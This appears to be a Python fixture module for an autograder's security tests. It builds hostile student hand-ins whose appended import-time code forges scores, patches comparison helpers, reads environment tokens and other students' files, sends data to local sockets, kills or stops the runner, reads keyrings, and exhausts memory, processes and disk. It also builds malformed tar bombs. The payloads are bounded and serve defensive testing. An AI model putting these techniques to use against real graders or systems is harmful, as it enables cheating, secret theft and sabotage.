"""Hostile and malformed hand-ins, built in a folder: what the grader must withstand.

Used by ``tests/test_grader_security.py`` and ``scripts/bench_grader_batch.py``. Each hostile
hand-in is MyTorch's own ``mytorch`` (or a copy with a wrong-sign ``mul_backward``, or only an
``__init__.py``) with attack code appended to its ``__init__.py``, which runs when a worker
imports it. Every payload is bounded: a few forks, a few MiB of output, one allocation over a
low memory cap, background processes that sleep before acting.
"""

from __future__ import annotations

import ctypes
import io
import os
import shutil
import tarfile
import textwrap
from pathlib import Path

from autograder.mutants import WRONG_SIGN, broken_copy

ROOT = Path(__file__).resolve().parents[1]

MARK = f"31.{os.getpid():07d}"
"""What a hand-in's background processes are called (``sleep 31.<this process's pid>``): found
afterwards, they survived. The pid makes it this test process's own: CI runs the suite twice at
once (two NumPy versions), and one run must not count, or kill, the other's hand-ins' sleepers."""
TOKEN = "grader-token-5d1c9e"
"""A secret in the runner's environment: no report may show it."""
SECRET = "VICTIM-SECRET-4242"
"""Text inside another student's hand-in: no other report may show it."""
FAKE = '{"scores": {"operations": 999}}'
"""The forged Autolab line: it may appear in a report only as the quoted output of a test."""


# --------------------------------------------------------------------------- building hand-ins
def package(folder: Path, code: str = "", wrong_mul: bool = False, bare: bool = False) -> Path:
    """``folder/mytorch``: MyTorch's own (or with a wrong-sign ``mul_backward``, or only an
    ``__init__.py``), with ``code`` appended to its ``__init__.py`` (run when it is imported)."""
    if bare:
        (folder / "mytorch").mkdir(parents=True)
        (folder / "mytorch" / "__init__.py").write_text(code)
        return folder
    if wrong_mul:
        broken_copy(ROOT, folder, "mul_backward", WRONG_SIGN)
    else:
        shutil.copytree(ROOT / "mytorch", folder / "mytorch", ignore=shutil.ignore_patterns("__pycache__"))
    init = folder / "mytorch" / "__init__.py"
    init.write_text(init.read_text() + "\n" + code)
    return folder


def tar_of(folder: Path, archive: Path, mode: str = "w") -> Path:
    with tarfile.open(archive, mode) as tar:
        tar.add(folder / "mytorch", arcname="mytorch", filter=lambda m: None if "__pycache__" in m.name else m)
    return archive


def handin(tmp: Path, inbox: Path, name: str, **options) -> Path:
    """``inbox/name``: the hand-in ``package(tmp / ..., **options)`` as a tar (gzipped for .gz)."""
    mode = "w:gz" if name.endswith(".gz") else "w"
    return tar_of(package(tmp / f"src-{name}", **options), inbox / name, mode)


def functional_handin(tmp: Path, code: str, name: str) -> Path:
    """``tmp/name``: a tar of a ``mytorch`` holding only empty ``__init__.py`` files and ``nn/functional.py``, whose
    text is ``code`` (its kernels are the attack)."""
    (tmp / "src" / "mytorch" / "nn").mkdir(parents=True)
    (tmp / "src" / "mytorch" / "__init__.py").write_text("")
    (tmp / "src" / "mytorch" / "nn" / "__init__.py").write_text("")
    (tmp / "src" / "mytorch" / "nn" / "functional.py").write_text(code)
    return tar_of(tmp / "src", tmp / name)


def _write_fake(targets: list[str], indent: str = "") -> str:
    """Attack code: append the fake Autolab line to every one of ``targets`` it can open."""
    code = f"""for path in {targets!r}:
    try:
        with open(path, "a") as out:
            out.write({FAKE!r} + "\\n")
    except OSError:
        pass"""
    return textwrap.indent(code, indent)


def _send_result(arrays: str) -> str:
    """Attack code: hunt the worker's result pipe in its callers' frames and, found, send
    ``np.savez(buffer, <arrays>)`` through it as the test's result, then exit."""
    return f"""
import io, os, struct, sys
import numpy as np
frame, fd = sys._getframe(), None
while frame is not None and fd is None:
    config = frame.f_locals.get("config")
    if isinstance(config, dict) and "result_fd" in config:
        fd = config["result_fd"]
    frame = frame.f_back
if fd is not None:
    buffer = io.BytesIO()
    np.savez(buffer, {arrays})
    payload = buffer.getvalue()
    os.write(fd, b"R" + b"D" + struct.pack(">Q", len(payload)) + payload)
    os._exit(0)
"""


def forger(targets: list[str]) -> str:
    """No implementation at all: it prints a fake Autolab line, writes fake scores wherever it
    can, hunts the worker's result pipe in its callers' frames and sends a forged result
    (zeros, and an object array that would need pickle), then exits."""
    forged = """**{"gradient of input 0": np.zeros((3, 4)), "gradient of input 1": np.zeros((3, 4)),
                   "verdict": np.array([{"passed": True}], dtype=object)}"""
    return f"""
print({FAKE!r}, flush=True)
{_write_fake(targets)}
""" + _send_result(forged)


PATCHER = """
import inspect, sys
import numpy
numpy.abs = lambda x, *args, **kwargs: numpy.zeros_like(x)
numpy.allclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for attribute in ("assert_close", "judge", "_assert_equal", "decode_arrays"):
            if hasattr(module, attribute):
                setattr(module, attribute, lambda *args, **kwargs: None)
for info in inspect.stack():
    found = [k for k in info.frame.f_locals if k in ("expected", "want", "reference")]
    if found:
        print("FOUND REFERENCE", found)
"""
"""Replaces the comparison helpers, numpy.abs and friends, and looks for the expected arrays
in its callers' frames; with a wrong-sign mul_backward."""


def survivor(targets: list[str]) -> str:
    """Double-forks a process (``setsid``, where that is allowed) that waits, then appends fake
    scores to the reports and to its runner's own stdout (through /proc/<runner>/fd/1, the runner found among its
    ancestors, so that graders run by other tests are left alone), and stays alive as
    ``sleep MARK``."""
    return f"""
import builtins, os, time
runners = []  # this hand-in's own runner among its ancestors (never another grader on the machine)
pid = os.getpid()
while pid > 1:
    try:
        with open(f"/proc/{{pid}}/cmdline", "rb") as f:
            if b"runner.py" in f.read():
                runners.append(pid)
        with open(f"/proc/{{pid}}/stat", "rb") as f:
            pid = builtins.int(f.read().rsplit(b")", 1)[1].split()[1])  # mytorch.int is a dtype
    except (OSError, ValueError, IndexError):
        break
if os.fork() == 0:
    try:
        os.setsid()
    except OSError:  # refused under --sandbox none: it stays in the worker's session
        pass
    if os.fork() == 0:
        try:
            time.sleep(1.5)
{_write_fake(targets, " " * 12)}
            for runner in runners:
                try:
                    with open(f"/proc/{{runner}}/fd/1", "w") as out:
                        out.write({FAKE!r} + "\\n")
                except OSError:
                    pass
            os.execv("/bin/sleep", ["sleep", {MARK!r}])
        finally:
            os._exit(0)
    os._exit(0)
"""


def snooper(grader: Path, inbox: Path, port: int) -> str:
    """Reads other hand-ins (the archives and anything extracted), tries the network, and
    appends a no-op comparison to the grader's own files; then its ``mul_backward`` fails with
    what it found (``snooped: read N files ...``, and the text around any secret it saw), so that
    its report shows what it could reach (a passing test's output is never shown)."""
    return f"""
import glob, os, socket
read, found, key = [], b"", b"SEC" + b"RET"  # (split, so that its own archive does not match)
for pattern in [{str(inbox)!r} + "/*", "/tmp/mytorch-*/**/*"]:
    for path in glob.glob(pattern, recursive=True)[:200]:
        try:
            with open(path, "rb") as f:
                data = f.read(4 * 2**20)
        except OSError:
            continue
        read.append(os.path.basename(path))
        if key in data:
            at = data.index(key)
            found += data[at - 20 : at + 20]
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=0.5).sendall(b"STOLEN")
    network = "reached"
except OSError as error:
    network = f"unreachable ({{error}})"
changed = []
for path in [{str(grader / "autograder" / "checks.py")!r}, {str(grader / "autograder" / "grading.py")!r}]:
    try:
        with open(path, "a") as out:
            out.write("\\ndef assert_close(*args, **kwargs):\\n    return None\\n")
        changed.append(path)
    except OSError:
        pass


def _snooping_mul(grad_output, a, b):
    raise RuntimeError(f"snooped: read {{len(read)}} files of other hand-ins {{read[:3]}}, found {{found!r}}, "
                       f"network {{network}}, changed {{len(changed)}} grader files")


from mytorch.nn import functional as _functional
_functional.mul_backward = _snooping_mul
"""


ENVLEAK = "import os\nraise ImportError('environment: ' + repr(dict(os.environ)))\n"
FLOOD = "import sys\nfor _ in range(8):\n    sys.stdout.write('x' * 2**20)\nraise ImportError('flooded')\n"
FORKER = f"""
def _greedy_mul(grad_output, a, b):
    import ctypes, os
    import numpy as np
    try:
        np.ones(100 * 2**20)
        notes = "allocated 800 MB"
    except MemoryError:
        notes = "allocation refused"
    libc = ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(0, 2**20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600: memory no --memory counts
    notes += f"; shmget gave {{segment}} (errno {{ctypes.get_errno() if segment < 0 else 0}})"
    if segment >= 0:
        libc.shmctl(segment, 0, None)  # IPC_RMID
    folders, stopped = 0, "all"
    try:
        while folders < 10000:  # entries of the kernel's own memory, which no --memory counts either
            os.mkdir(f"f{{folders}}")
            folders += 1
    except OSError as error:
        stopped = error.strerror
    notes += f"; made {{folders}} folders ({{stopped}})"
    children = 0
    for _ in range(12):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.execv("/bin/sleep", ["sleep", {MARK!r}])
        children += 1
    raise RuntimeError(f"{{notes}}; forked {{children}}")


from mytorch.nn import functional as _functional
_functional.mul_backward = _greedy_mul
"""
"""Allocates 800 MB (over ``--memory 400``), makes a System V shared memory segment and up to 10000
folders in its own folder, and forks up to 12 sleepers (``--max-procs 4``)."""
HANG = "while True:\n    pass\n"
MEMHOG = """
def _hungry_mul(grad_output, a, b):
    import os, time
    import numpy as np
    read, write = os.pipe()
    for _ in range(3):
        if os.fork() == 0:
            try:
                block = np.ones(200 * 2**20 // 8)  # 200 MB, every page touched
                time.sleep(3.0)
                os.write(write, b"+")  # still holding its 200 MB
            finally:
                os._exit(0)
    os.close(write)
    held = b""
    while chunk := os.read(read, 3):
        held += chunk
    raise RuntimeError(f"{len(held)} children held 200 MB each at once")


from mytorch.nn import functional as _functional
_functional.mul_backward = _hungry_mul
"""
"""Three forked children allocating 200 MB each: under ``--memory 400`` every one of them may,
but not under a hand-in limit of 300 MB."""

OOM = """
def _oom_mul(grad_output, a, b):
    import numpy as np
    block = np.ones(400 * 2**20 // 8)  # 400 MB, every page touched
    raise RuntimeError(f"held {block.nbytes} bytes")


from mytorch.nn import functional as _functional
_functional.mul_backward = _oom_mul
"""
"""One process touching 400 MB: the kernel ends it under a hand-in limit of 300 MB."""

CPU_BURNER = """
def _burning_mul(grad_output, a, b):
    import math, resource  # (this code runs in mytorch's namespace, where int is a dtype)
    used = resource.getrusage(resource.RUSAGE_SELF)
    limit = math.ceil(used.ru_utime + used.ru_stime) + 2
    resource.setrlimit(resource.RLIMIT_CPU, (limit, limit))  # two more seconds of CPU, then SIGKILL
    while True:
        pass


from mytorch.nn import functional as _functional
_functional.mul_backward = _burning_mul
"""
"""A test that lowers its own CPU-time limit and spins: the kernel kills it (as it would at the
grader's limit, which a multi-threaded hand-in can reach before the wall-clock one)."""


PARRICIDE = """
import os as _os, signal as _signal
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)  # under --sandbox none the worker's parent is the runner
    _outcome = "killed the runner"
except OSError as _error:
    _outcome = f"could not kill the runner ({_error.strerror})"


def _telling_mul(grad_output, a, b):
    raise RuntimeError(_outcome)


from mytorch.nn import functional as _functional
_functional.mul_backward = _telling_mul
"""
"""Kills the runner (its parent under ``--sandbox none``, the same user), which would leave the
last line of the output to whatever the hand-in writes there next; its mul_backward says how
that went."""


SHM_TAG = int(MARK.split(".")[1]) % 32768
"""The top bits of the keys of the shared memory segments this test process makes."""


def segments_left() -> list[int]:
    """The keys of shared memory segments of this test process's tag (``SHM_TAG``) still there; each
    is removed (by its id, as root)."""
    try:
        rows = [row.split() for row in Path("/proc/sysvipc/shm").read_text().splitlines()[1:]]
    except OSError:
        return []
    left = [(int(row[0]), int(row[1])) for row in rows if int(row[0]) >> 16 == SHM_TAG]
    for _, shmid in left:
        ctypes.CDLL(None).shmctl(shmid, 0, None)  # IPC_RMID
    return [key for key, _ in left]


def _member(tar: tarfile.TarFile, name: str, data: bytes = b"x = 1\n") -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def malformed(inbox: Path) -> dict[str, str]:
    """Archives that must be refused, and a fragment of each one's reason."""
    with tarfile.open(inbox / "long-component.tar", "w", format=tarfile.PAX_FORMAT) as tar:
        _member(tar, "mytorch/__init__.py")
        _member(tar, "mytorch/" + "a" * 300 + ".py")
    with tarfile.open(inbox / "long-path.tar", "w", format=tarfile.GNU_FORMAT) as tar:
        _member(tar, "mytorch/__init__.py")
        _member(tar, "mytorch/" + "/".join(["d" * 200] * 25) + "/x.py")
    with tarfile.open(inbox / "file-and-folder.tar", "w") as tar:
        _member(tar, "mytorch")
        _member(tar, "mytorch/__init__.py")
    whole = io.BytesIO()
    with tarfile.open(fileobj=whole, mode="w:gz") as tar:
        for i in range(40):
            _member(tar, f"mytorch/m{i}.py", bytes(range(256)) * 40)
    (inbox / "truncated.tar.gz").write_bytes(whole.getvalue()[: len(whole.getvalue()) // 2])
    header = tarfile.TarInfo("././@LongLink")
    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 8 * 2**30  # claims 8 GiB, holds 9 KB
    (inbox / "header-bomb.tar").write_bytes(header.tobuf(format=tarfile.GNU_FORMAT)[:512] + b"a" * 9000)
    with tarfile.open(inbox / "pax-bomb.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as tar:
        _member(tar, "mytorch/" + "b" * 1_500_000 + ".py")  # a 1.5 MB pax header, compressed to ~2 KB
    with tarfile.open(inbox / "zeros.tar.gz", "w:gz") as tar:
        _member(tar, "mytorch/__init__.py", bytes(15 * 2**20))
    with tarfile.open(inbox / "many.tar", "w") as tar:
        for i in range(2001):
            _member(tar, f"mytorch/m{i}.py", b"")
    (inbox / "empty.tar").write_bytes(b"")
    (inbox / "junk.tgz").write_bytes(b"not an archive at all")
    return {
        "long-component.tar": "name component over 255 bytes",
        "long-path.tar": "path over 1024 bytes",
        "file-and-folder.tar": "collides with an earlier member",
        "truncated.tar.gz": "not a readable tar archive",
        "header-bomb.tar": "long-name header of 8589934592 bytes",
        "pax-bomb.tar.gz": "long-name header of 1500",
        "zeros.tar.gz": "expands more than 200 times",
        "many.tar": "more than 2000 members",
        "empty.tar": "not a readable tar archive",
        "junk.tgz": "not a readable tar archive",
    }


STOPPER = f"""
import ctypes as _ctypes, os as _os, signal as _signal, time as _time
_ready, _armed = _os.pipe()
if _os.fork() == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv("/bin/sleep", ["sleep", {MARK!r}])  # found afterwards: it survived
        _signal.alarm(120)  # whatever happens, it ends
        _libc, _worker = _ctypes.CDLL(None), _os.getppid()
        _events = _libc.inotify_init1(0)
        for _path in (b"/usr/bin/kill", b"/bin/kill"):
            _libc.inotify_add_watch(_events, _path, 0x20)  # IN_OPEN: an exec of it has begun
        _os.write(_armed, b"!")
        while _os.read(_events, 4096) and _os.getppid() == _worker:  # (not while the worker runs)
            pass
        for _ in range(100):  # every other process of its uid: the runner's killer, before its first instruction
            _libc.kill(-1, _signal.SIGSTOP)
        _time.sleep(100.0)  # holding what it stopped
        _libc.kill(-1, _signal.SIGCONT)
    finally:
        _os._exit(0)
_os.read(_ready, 1)
"""
"""Under ``--sandbox uid``, in every test: leaves a process that, once the worker has ended, waits
for an exec of ``kill`` to begin (inotify) and then sends SIGSTOP to every other process of its
uid; it holds what it stopped for 100 s, then lets it go (and it ends within 120 s whatever
happens). With it, a ``sleep MARK``. (The runner's old killer, ``kill`` run as the uid, was stopped
in at least one of the ``operations`` section's six tests in each of 5 runs out of 5.)"""


KEY_THIEF = """
def _thieving_mul(grad_output, a, b):
    import ctypes, os  # (this code runs in mytorch's namespace, where max is mytorch.max)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
    found = libc.syscall(keyctl, 10, -3, b"user", b"grader-secret", 0)  # KEYCTL_SEARCH the session keyring
    text = b""
    if found > 0:
        buffer = ctypes.create_string_buffer(4096)
        size = libc.syscall(keyctl, 11, ctypes.c_long(found), buffer, 4096)  # KEYCTL_READ
        text = buffer.raw[:size] if size > 0 else b""
    raise RuntimeError(f"the session keyring gave {text!r} (errno {ctypes.get_errno()})")


_thieving_mul(None, None, None)  # (at import: every test fails with it, the cheapest section will do)
"""
"""Looks for a key ``user:grader-secret`` in its session keyring and fails its import with what it
read."""


ERROR_FLOOD = _send_result('__error__=np.full(7 * 2**20, ord("E"), dtype=np.uint8)')  # the worker cuts its own to 4000
"""Sends, as every test's result, an error text of 7 MiB (within the channel's 8 MiB)."""


def _digging_sub(*tops: str) -> str:
    """Attack code: the hand-in's ``sub_backward`` first leaves a folder 1500 levels deep (one level
    deeper than ``shutil.rmtree`` can recurse) at each of ``tops`` it may write, then computes as
    before. (One test's folder is enough: removing each took the runner's ``rm`` about 4 s on this
    machine's disk, and a folder in every test of the section cost the test 20 s.)"""
    return f"""
def _dig(top):
    import builtins, os
    try:
        os.mkdir(top)
    except OSError:  # out of its reach, or made by the kernel's earlier call in this test
        return
    fd = os.open(top, os.O_RDONLY)
    for _ in builtins.range(1500):
        os.mkdir("d", dir_fd=fd)
        fd, old = os.open("d", os.O_RDONLY, dir_fd=fd), fd
        os.close(old)
    os.close(fd)


from mytorch.nn import functional as _functional
_sub = _functional.sub_backward


def _digging_sub(*args, **kwargs):
    for top in {list(tops)!r}:
        _dig(top)
    return _sub(*args, **kwargs)


_functional.sub_backward = _digging_sub
"""


DIGGER = _digging_sub("deep", f"/tmp/deep-{MARK}")
"""Leaves a folder 1500 levels deep in its working folder and, where it may, in /tmp (in the test of
``sub_backward``, which it passes)."""


QUEUE = f"/mytorch-{MARK}"
"""The POSIX message queue ``QUEUER`` makes."""
QUEUER = f"""
def _queueing_mul(grad_output, a, b):
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        mq_open = libc.mq_open
    except AttributeError:  # a C library before glibc 2.34
        mq_open = ctypes.CDLL("librt.so.1", use_errno=True).mq_open
    made = mq_open({QUEUE.encode()!r}, os.O_CREAT | os.O_RDWR, 0o600, None)
    raise RuntimeError(f"mq_open gave {{made}} (errno {{ctypes.get_errno()}})")


_queueing_mul(None, None, None)  # (at import: in every test, the cheapest section will do)
"""
"""Makes a POSIX message queue (which outlives its processes: under ``uid`` no other hand-in
would see it in /dev/mqueue, often not even mounted) and fails its import saying how that went."""


def queue_left() -> bool:
    """Whether ``QUEUER``'s queue exists (it is removed if so)."""
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        mq_open, mq_unlink = libc.mq_open, libc.mq_unlink
    except AttributeError:
        rt = ctypes.CDLL("librt.so.1", use_errno=True)
        mq_open, mq_unlink = rt.mq_open, rt.mq_unlink
    found = mq_open(QUEUE.encode(), os.O_RDONLY, 0, None)
    if found < 0:
        return False
    os.close(found)
    mq_unlink(QUEUE.encode())
    return True


SHARED = f"/tmp/mytorch-shared-{MARK}"
"""A world-writable folder inside /tmp that is not a hand-in's (as ``/tmp/.X11-unix`` is root's)."""
LITTERER = f"""
import os as _os
for _folder in ({SHARED!r}, {SHARED!r} + "/inner"):
    try:
        with open(_folder + f"/left-{{_os.getpid()}}", "w") as _out:
            _out.write("x" * 4096)  # (one that filled the disk would stay as long)
    except OSError:
        pass
"""
"""Under ``uid``: leaves a small file in ``SHARED`` and in a world-writable folder inside it."""


REGICIDE = """
import builtins as _builtins, os as _os, resource as _resource, signal as _signal
_runner, _tried = _os.getppid(), []  # under --sandbox none the worker's parent is the runner
try:
    _threads = [_builtins.int(tid) for tid in _os.listdir(f"/proc/{_runner}/task")]
except OSError as _error:
    _threads = []
    _tried.append(f"no threads listed ({_error.strerror})")
for _tid in _threads:
    if _tid != _runner:  # a signal to any thread's id ends the whole process
        try:
            _os.kill(_tid, _signal.SIGKILL)
            _tried.append("killed a thread of the runner")
        except OSError as _error:
            _tried.append(f"could not kill a thread of the runner ({_error.strerror})")
try:  # the runner's next report would fail with "File too large"
    _resource.prlimit(_runner, _resource.RLIMIT_FSIZE, (0, 0))
    _tried.append("set the runner's file-size limit to 0")
except OSError as _error:
    _tried.append(f"could not set the runner's limits ({_error.strerror})")


def _telling_mul(grad_output, a, b):
    raise RuntimeError("; ".join(_tried))


from mytorch.nn import functional as _functional
_functional.mul_backward = _telling_mul
"""
"""Under ``--sandbox none``: kills the runner through the ids of its threads, which its signal
filter did not protect (only the pids), and sets its file-size limit to 0 (``prlimit``, which a
process may do to another of its user); its mul_backward says how that went."""


_STOPPING_MUL = """
def _stopping_mul(grad_output, a, b):
    import os, signal, time
    stopped, end = [], time.monotonic() + 3.0  # (under the test's limit of 10 s)
    while time.monotonic() < end and not stopped:
        for entry in os.listdir("/proc"):
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    command = f.read()
                if command.startswith(b"rm\\0") and b"mytorch-workers-" in command:
                    os.kill(__import__("builtins").int(entry), signal.SIGSTOP)
                    stopped.append(entry)
            except (OSError, ValueError):
                continue
        time.sleep(0.01)
    raise RuntimeError(f"stopped {len(stopped)} of the runner's helpers")


from mytorch.nn import functional as _functional
_functional.mul_backward = _stopping_mul
"""
HELPER_STOPPER = _digging_sub("deep") + _STOPPING_MUL
"""Under ``--sandbox none --jobs 2``: leaves, in the test of ``sub_backward``, a folder too deep for
``shutil.rmtree``; its mul_backward, running beside that test, sends SIGSTOP to the ``rm`` the runner
starts to remove such a folder (once), which the runner then waited for forever."""


def file_snooper(secret: str, report: str) -> str:
    """Reads ``secret`` (a world-readable file outside the Python installation: the reference
    solution, the grader, another hand-in), appends the fake Autolab line to ``report`` (an earlier
    hand-in's), writes in its own folder and imports the grader's references through the ``autograder``
    package its worker has imported; fails its import saying which it could (in every test: the
    cheapest section will do)."""
    return f"""
import os as _os
_did = []
try:
    with open({secret!r}, "rb") as _f:
        _did.append(f"read the reference: {{_f.read(40)!r}}")
except OSError as _error:
    _did.append(f"could not read the reference ({{_error.strerror}})")
try:
    with open({report!r}, "a") as _f:
        _f.write({FAKE!r} + "\\n")
    _did.append("changed another hand-in's report")
except OSError as _error:
    _did.append(f"could not change another hand-in's report ({{_error.strerror}})")
with open("notes.txt", "w") as _f:
    _f.write("its own folder")
_did.append("wrote in its own folder")
try:  # the grader's package is imported in the worker already (its student side): its references are not
    import autograder.test_operations

    _did.append("imported the grader's references")
except ImportError as _error:
    _did.append(f"could not import the grader's references ({{type(_error).__name__}})")
except OSError as _error:
    _did.append(f"could not import the grader's references ({{_error.strerror}})")
raise RuntimeError("; ".join(_did))
"""


KEY_PLANTER = """
def _planting_mul(grad_output, a, b):
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    add_key, keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
    found = libc.syscall(keyctl, 10, -4, b"user", b"handin-note", 0)  # KEYCTL_SEARCH its uid's user keyring
    if found > 0:
        buffer = ctypes.create_string_buffer(4096)
        size = libc.syscall(keyctl, 11, ctypes.c_long(found), buffer, 4096)  # KEYCTL_READ
        raise RuntimeError(f"read an earlier hand-in's key: {buffer.raw[: size if size > 0 else 0]!r}")
    made = libc.syscall(add_key, b"user", b"handin-note", b"left by an earlier hand-in", 26, -4)
    raise RuntimeError(f"no earlier key; add_key gave {made} (errno {ctypes.get_errno()})")


_planting_mul(None, None, None)  # (at import: in every test's worker, the cheapest section will do)
"""
"""Reads a key ``user:handin-note`` from its uid's user keyring (``@u``), else adds one there, and fails
its import saying which: graded twice in one batch, the second hand-in (the same slot's uid) read what
the first left."""


PARENT_READER = """
import builtins as _builtins, os as _os
with open(f"/proc/{_os.getppid()}/stat", "rb") as _stat:  # under --sandbox none the worker's parent is the runner
    _parent = _builtins.int(_stat.read().rsplit(b")", 1)[1].split()[1])  # the runner's parent: dumpable, its user's
_seen = []
for _what, _mode in (("environ", "rb"), ("mem", "r+b"), ("fd/1", "ab")):  # (opened only: nothing read or written)
    try:
        open(f"/proc/{_parent}/{_what}", _mode).close()
        _seen.append(f"opened its {_what}")
    except OSError as _error:
        _seen.append(f"could not open its {_what} ({_error.strerror})")
raise RuntimeError("the runner's parent: " + "; ".join(_seen))
"""
"""Under ``--sandbox none``: opens, in the runner's parent (dumpable, the same user), its
environment (where a token set for the runner is too), its memory for writing and its stdout (the
output whose last line Autolab reads); fails its import saying which it could open (in every test:
the cheapest section will do)."""


def wanderer(tcp_port: int, unix_path: str) -> str:
    """Leaves, in every test, a ``sleep MARK`` started by a child of the worker after trying to
    leave the worker's session (``setsid``) and process group (``setpgid``): under ``none`` the
    runner found leftovers only as its own children, by pid, and a chain of processes each forking
    the next and exiting could outrun that search on a machine with cores to spare. Its
    mul_backward also tries a TCP connection to ``tcp_port`` on localhost, a connection to the Unix
    socket ``unix_path`` (how ``systemd-run --user``, a tmux server or D-Bus would start a process
    that is no descendant of the runner), io_uring (which makes sockets without the socket call)
    and a System V shared memory segment (which outlives its processes, for a later hand-in of the
    same user), a memory file (whose pages no address-space limit counts), and says which worked, and
    its process limit."""
    return f"""
import os as _os
_read, _write = _os.pipe()
_child = _os.fork()
if _child == 0:
    try:
        _tried = []
        for _name, _call in (("its session", _os.setsid), ("its process group", lambda: _os.setpgid(0, 0))):
            try:
                _call()
                _tried.append(f"left {{_name}}")
            except OSError as _error:
                _tried.append(f"could not leave {{_name}} ({{_error.strerror}})")
        if _os.fork() == 0:
            _os.execv("/bin/sleep", ["sleep", {MARK!r}])
        _os.write(_write, "; ".join(_tried).encode())
    finally:
        _os._exit(0)
_os.close(_write)
_left = _os.read(_read, 4096).decode()
_os.close(_read)
_os.waitpid(_child, 0)  # (only the sleep is left running)


def _wandering_mul(grad_output, a, b):
    import ctypes, os, struct  # (not socket: under uid a Python in root's home has only what was loaded)
    did = [_left]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    tcp = struct.pack("=H", 2) + struct.pack(">H", {tcp_port}) + bytes([127, 0, 0, 1]) + bytes(8)
    unix = struct.pack("=H", 1) + {unix_path.encode()!r} + bytes(1)
    for name, family, address in (("a TCP connection", 2, tcp), ("a Unix socket", 1, unix)):
        fd = libc.socket(family, 1, 0)  # SOCK_STREAM
        if fd < 0:
            did.append(f"could not make {{name}} ({{os.strerror(ctypes.get_errno())}})")
        elif libc.connect(fd, address, len(address)) != 0:
            did.append(f"could not make {{name}}: connect failed ({{os.strerror(ctypes.get_errno())}})")
        else:
            os.write(fd, b"STOLEN")
            did.append(f"made {{name}}")
        if fd >= 0:
            os.close(fd)
    params = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, params)  # io_uring_setup (the same number on x86-64 and ARM64)
    did.append(f"io_uring_setup gave {{ring}} (errno {{ctypes.get_errno()}})")
    if ring >= 0:
        os.close(ring)
    try:  # (pages no address-space limit counts)
        os.close(os.memfd_create("held"))
        did.append("made a memory file")
    except OSError as error:
        did.append(f"could not make a memory file ({{error.strerror}})")
    segment = libc.shmget(0, 4096, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    did.append(f"shmget gave {{segment}} (errno {{ctypes.get_errno()}})")
    if segment >= 0:
        libc.shmctl(segment, 0, None)  # IPC_RMID
    import resource
    did.append(f"may have {{resource.getrlimit(resource.RLIMIT_NPROC)[1]}} tasks of its user")
    raise RuntimeError("; ".join(did))


from mytorch.nn import functional as _functional
_functional.mul_backward = _wandering_mul
"""


NODE_MAKER = """
def _node_mul(grad_output, a, b):
    import os, stat
    with open("/proc/self/status") as status:
        held = [line.split()[1] for line in status if line.startswith("CapEff:")][0]
    try:
        os.mknod("null-node", 0o600 | stat.S_IFCHR, os.makedev(1, 3))  # /dev/null's numbers: harmless
        made = "made a device node"
    except OSError as error:
        made = f"could not make a device node ({error.strerror})"
    with open("/proc/self/oom_score_adj") as adjustment:
        first = adjustment.read().strip()
    try:
        with open("/proc/self/oom_score_adj", "w") as adjustment:
            adjustment.write("0")  # the runner's
        lowered = "lowered it to 0"
    except OSError as error:
        lowered = f"could not lower it ({error.strerror})"
    forked = 0
    for _ in range(40):  # (root: no process limit applies, RLIMIT_NPROC included)
        try:
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "30"])  # killed with the worker's process group
        except OSError:
            break
        forked += 1
    raise RuntimeError(f"capabilities {held}; {made}; oom_score_adj {first}; {lowered}; forked {forked} of 40")


_node_mul(None, None, None)  # (at import: in every test, the cheapest section will do)
"""
"""Under ``--sandbox none`` with the runner as root: says which capabilities it holds, makes a device
node in its own folder (with the numbers of /dev/null; one with the disk's would give it the whole
disk, through its own folder, which its Landlock domain lets it open), sets its ``oom_score_adj``
(how soon the kernel ends it when memory runs out) to 0, the runner's, and forks up to 40 sleeping
children; fails its import saying how that went."""


SHADOW_C = """
#include <Python.h>
static struct PyModuleDef shadow = {PyModuleDef_HEAD_INIT, "shadow", NULL, -1, NULL};
PyMODINIT_FUNC PyInit_shadow(void) {
    PyErr_SetString(PyExc_ImportError, "the compiled shadow ran, not shadow.py");
    return NULL;
}
"""
"""A compiled module whose import fails, saying so: were it imported, every test would fail."""


def shadowed(folder: Path, compiler: str) -> Path:
    """``folder/mytorch``: MyTorch's own, importing ``mytorch.shadow``, whose source ``shadow.py``
    is harmless and beside which lies a compiled ``shadow`` extension module (``SHADOW_C``, built with
    ``compiler``), which Python imports first: what staff read would not be what ran."""
    import subprocess
    import sysconfig

    package(folder, "from . import shadow\n")
    (folder / "mytorch" / "shadow.py").write_text("HARMLESS = True\n")
    source = folder / "shadow.c"
    source.write_text(SHADOW_C)
    built = folder / "mytorch" / f"shadow{sysconfig.get_config_var('EXT_SUFFIX')}"
    command = [compiler, "-shared", "-fPIC", f"-I{sysconfig.get_paths()['include']}", str(source), "-o", str(built)]
    subprocess.run(command, check=True, capture_output=True, timeout=60)
    source.unlink()
    return folder


DISK_FILLER = """
import os as _os
_kept, _hidden, _written = [], 0, 0
try:
    for _i in range(4):  # 4 MiB in files unlinked while kept open: no look at the folder sees them
        _out = open(f"hidden-{_i}", "wb")
        _os.unlink(f"hidden-{_i}")
        _out.write(b"x" * 2**20)
        _out.flush()
        _kept.append(_out)
        _hidden += 1
